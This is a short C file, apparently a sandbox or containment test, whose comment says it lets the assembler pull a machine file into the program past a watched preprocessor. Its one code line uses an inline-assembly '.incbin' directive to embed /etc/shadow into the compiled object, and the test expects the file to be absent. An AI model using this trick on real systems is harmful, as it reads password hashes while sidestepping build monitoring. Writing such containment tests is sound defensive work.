/* Lets the assembler take a file of the machine into the program, where the preprocessor would be watched.
 * Contained: it is not there.
 *
 * Command: /usr/bin/gcc -c attack.c
 * Ends: exit 1 */
__asm__(".incbin \"/etc/shadow\"");
